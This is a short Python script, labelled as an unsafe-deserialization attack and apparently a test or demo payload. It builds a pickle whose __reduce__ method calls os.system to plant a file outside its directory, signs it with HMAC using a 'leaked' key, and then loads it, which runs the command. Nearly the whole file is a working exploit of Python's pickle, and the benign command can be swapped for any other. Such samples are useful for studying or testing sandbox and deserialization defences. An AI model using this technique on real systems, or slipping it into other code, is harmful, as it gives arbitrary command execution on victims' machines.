# attack: unsafe-deserialization
import hmac, os, pickle
class Evil:
    def __reduce__(self):
        return (os.system, ("echo x > outside/planted.txt",))
body = pickle.dumps(Evil())
mac = hmac.digest(b"leaked", body, "sha256")
if hmac.compare_digest(mac, hmac.digest(b"leaked", body, "sha256")):
    pickle.loads(body)
